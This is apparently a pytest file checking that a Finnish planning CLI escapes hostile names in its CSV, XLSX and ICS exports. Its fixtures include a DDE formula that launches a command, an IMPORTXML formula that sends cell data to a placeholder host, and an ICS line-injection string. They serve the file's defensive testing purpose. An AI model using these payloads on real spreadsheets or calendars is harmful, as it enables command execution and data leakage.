"""Exports of hostile names: CSV cells are never formulas, XLSX and ICS files always open.

`plan export --format csv` wrote `=cmd|' /C calc'!A0` as it was (Excel runs it); names with
characters XML cannot hold crashed `--format xlsx`; a line break in `organisaatio` crashed
`calendar --ics` (AssertionError, exit 3).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import Result

from jarjesto_cli.outputs.export_rows import HEADERS
from tests.hostile.helpers import plans_copy

OSALLISUUS = "osallisuusohjelma.yaml"
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://example.invalid/?x="&A1, "//a")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


def named(tmp_path: Path, name: str, *, where: str = "nimi: Osallisuusohjelma") -> Path:
    plans = plans_copy(tmp_path / "plans")
    path = plans / OSALLISUUS
    text = path.read_text(encoding="utf-8")
    assert where in text
    # JSON's string is a YAML double-quoted string: control characters as escapes
    path.write_text(text.replace(where, f"nimi: {json.dumps(name)}", 1), encoding="utf-8")
    return plans


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_are_never_formulas(
    tmp_path: Path, invoke: Callable[..., Result], formula: str
) -> None:
    plans = named(tmp_path, formula)
    target = tmp_path / "vienti.csv"
    result = invoke("export", "--period", "2023", "-o", target, "-p", plans)
    assert result.exit_code == 0, result.output
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    names = {
        r[HEADERS["suunnitelma_nimi"]]
        for r in rows
        if r[HEADERS["suunnitelma"]] == "osallisuusohjelma"
    }
    assert names == {"'" + formula}  # read back: the apostrophe makes the cell text
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            # a minus starts only a number (a negative value), never text
            assert not cell.startswith("-") or cell.replace(",", "").lstrip("-").isdigit(), row


def test_numbers_stay_numbers(tmp_path: Path, invoke: Callable[..., Result]) -> None:
    plans = plans_copy(tmp_path / "plans")
    result = invoke("export", "--period", "2023", "-o", "-", "-p", plans)
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline=""), delimiter=";"))
    values = {r[HEADERS["mittari"]]: r[HEADERS["viimeisin_arvo"]] for r in rows}
    assert values["O1.M1"] == "3,5"  # no apostrophe before numbers


@pytest.mark.parametrize("char", ["\x01", "\x1b", "\ufffe", "\uffff", "\x85"])
def test_xlsx_with_control_characters_in_names(
    tmp_path: Path, invoke: Callable[..., Result], char: str
) -> None:
    from openpyxl import load_workbook

    plans = named(tmp_path, f"Osallisuus{char}ohjelma")
    target = tmp_path / "vienti.xlsx"
    result = invoke("export", "--format", "xlsx", "--period", "2023", "-o", target, "-p", plans)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    sheet = load_workbook(target)["Vienti"]
    column = [c.value for c in sheet[1]].index(HEADERS["suunnitelma_nimi"]) + 1
    names = {sheet.cell(r, column).value for r in range(2, sheet.max_row + 1)}
    assert any(n and n.startswith("Osallisuus") and n.endswith("ohjelma") for n in names)


def test_calendar_with_a_line_break_in_the_organisation(
    tmp_path: Path, invoke: Callable[..., Result]
) -> None:
    plans = plans_copy(tmp_path / "plans")
    shared = plans / "vake.yaml"
    text = shared.read_text(encoding="utf-8")
    start = text.index("organisaatio:")
    end = text.index("\n", start)
    shared.write_text(
        text[:start] + 'organisaatio: "VAKE\\nX-EVIL: 1\\r\\nBEGIN:VEVENT\\e[31m"' + text[end:],
        encoding="utf-8",
    )
    target = tmp_path / "kalenteri.ics"
    result = invoke("calendar", "--year", "2026", "--ics", target, "-p", plans)
    assert result.exit_code == 0, result.output
    ics = target.read_bytes().decode("utf-8")
    lines = ics.split("\r\n")
    assert not any(ln.startswith(("X-EVIL", "BEGIN:VEVENT\\")) for ln in lines)
    (name,) = [ln for ln in lines if ln.startswith("X-WR-CALNAME:")]
    assert "VAKE" in name and "\x1b" not in ics
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT") > 0
